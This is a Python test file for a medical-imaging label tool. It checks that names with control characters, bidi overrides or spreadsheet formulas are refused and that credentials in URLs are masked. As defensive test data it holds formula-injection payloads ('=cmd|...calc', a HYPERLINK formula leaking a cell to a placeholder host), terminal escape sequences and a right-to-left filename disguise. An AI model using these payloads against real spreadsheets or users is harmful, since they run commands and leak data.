import pytest
from hypothesis import given
from hypothesis import strategies as st

from cxrfast.text import (
    find_fault,
    label_fault,
    masked,
    name_fault,
    path_fault,
    printable,
    shown,
    without_credentials,
)

HARMLESS = ["Pleural Effusion", "Lungenödem", "肺炎", "No Finding", "a.b-c_d/e", "-123", "+ve", "@home", "s=1"]


@pytest.mark.parametrize("name", [*HARMLESS, "x" * 200])
def test_a_name_that_people_can_read_is_accepted(name):
    assert label_fault(name) is None
    assert path_fault(name) is None


@pytest.mark.parametrize(
    ("name", "fault"),
    [
        ("a\nb", r"holds the character U+000A"),
        ("a\0b", r"holds the character U+0000"),
        ("a\x1b[31mb", r"holds the character U+001B"),
        ("a\x9b31mb", r"holds the character U+009B"),
        ("a\u202eb", r"holds the character U+202E (right-to-left override)"),
        ("a\u200bb", r"holds the character U+200B (zero width space)"),
        ("\ufeffa", r"holds the character U+FEFF (zero width no-break space)"),
        ("a\xa0b", r"holds the character U+00A0 (no-break space)"),
        ("a\udcffb", r"holds the character U+DCFF"),
        ("x" * 201, "has 201 characters, and at most 200 are allowed"),
        ("=1+1", "would be run as a formula by a spreadsheet"),
        ("=cmd|'/C calc'!A0", "would be run as a formula by a spreadsheet"),
        ("-2+3+cmd|' /C calc'!A0", "would be run as a formula by a spreadsheet"),
        ("@SUM(1+9)", "would be run as a formula by a spreadsheet"),
        ('+HYPERLINK("http://a.example?x="&A1)', "would be run as a formula by a spreadsheet"),
    ],
)
def test_a_name_that_hides_something_or_runs_is_refused_and_what_is_wrong_is_said(name, fault):
    assert name_fault(name) == label_fault(name) == fault
    assert find_fault(["fine", name, "\0"], name_fault) == f"{shown(name)} {fault}"


def test_blanks_around_a_label_are_refused_and_around_an_id_left_to_the_rules_of_ids():
    for label in (" Edema", "Edema ", " "):
        assert label_fault(label) == "starts or ends with a blank"
        assert name_fault(label) is None


def test_a_path_may_hold_what_file_systems_accept_but_nothing_that_breaks_or_reorders_a_line():
    for path in ("=cmd/a.jpg", "a\xa0b.jpg", "a\u3000b.jpg", "می\u200cخواهم.jpg", "x" * 4096):
        assert path_fault(path) is None
    for path in ("a\nb", "a\x1b]0;x\x07", "a\u2028b", "a\u202egpj.exe", "a\udcff", "x" * 4097, "ä" * 2049):
        assert path_fault(path)


@given(st.text())
def test_what_is_printed_holds_no_control_character_and_stays_as_it_is_without_them(text):
    safe = printable(text)
    assert "".join(safe.split("\n")).replace("\t", "").replace("\xa0", "").isprintable() or not text.isprintable()
    assert not set(safe) & ({chr(c) for c in (*range(32), *range(127, 160))} - {"\n", "\t"})
    assert not set(safe) & set("\u202e\u2066\u200b\ufeff\u2028")
    assert printable(safe) == safe
    if text.isprintable():
        assert safe == text


def test_escape_sequences_are_shown_and_not_run():
    assert printable("\x1b[31mred\x1b]0;title\x07\r\n\tnext") == "\\x1b[31mred\\x1b]0;title\\x07\\r\n\tnext"


S3 = "AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
URLS = {
    "https://user:hunter2@host/labels.csv": ("https://***@host/labels.csv", "https://host/labels.csv"),
    f"s3://{S3}@bucket/labels.csv": ("s3://***@bucket/labels.csv", "s3://bucket/labels.csv"),
    "https://host/t.csv?sig=abc%2F": ("https://host/t.csv?sig=***", "https://host/t.csv"),
    "https://host/t.csv?file=2&token=abc&v=1": (
        "https://host/t.csv?file=2&token=***&v=1",
        "https://host/t.csv?file=2&v=1",
    ),
    "https://b.s3.amazonaws.com/t.csv?X-Amz-Credential=AKIA%2F1&X-Amz-Signature=ff": (
        "https://b.s3.amazonaws.com/t.csv?X-Amz-Credential=***&X-Amz-Signature=***",
        "https://b.s3.amazonaws.com/t.csv",
    ),
    "https://a.blob.core.windows.net/c/t.csv?sv=2024&sp=r&sig=Zm9v": (
        "https://a.blob.core.windows.net/c/t.csv?sv=2024&sp=r&sig=***",
        "https://a.blob.core.windows.net/c/t.csv?sv=2024&sp=r",
    ),
    "https://host/t.csv?AWSAccessKeyId=AKIA&Expires=9&Signature=x": (
        "https://host/t.csv?AWSAccessKeyId=***&Expires=9&Signature=***",
        "https://host/t.csv?Expires=9",
    ),
    "zip://t.csv::https://user:pw@host/x.zip?api_key=k": (
        "zip://t.csv::https://***@host/x.zip?api_key=***",
        "zip://t.csv::https://host/x.zip",
    ),
}


@pytest.mark.parametrize("url", URLS)
def test_credentials_of_a_url_are_masked_in_messages_and_dropped_from_what_is_stored(url):
    assert (masked(url), without_credentials(url)) == URLS[url]
    assert masked(f"[Errno 2] {url!r} is missing") == f"[Errno 2] {URLS[url][0]!r} is missing"


@pytest.mark.parametrize(
    "url",
    [
        *("s3://bucket/labels.csv", "https://host:8443/t.csv", "https://host:8443/a@2x/t.csv", "sftp://me@host/t.csv"),
        *(
            "/data/labels.csv",
            "labels.csv",
            "https://host/t.csv?file=labels.csv&keyword=chest",
            "a:b@c",
            "C:\\labels.csv",
        ),
    ],
)
def test_a_location_without_credentials_stays_as_it_is(url):
    assert masked(url) == without_credentials(url) == url
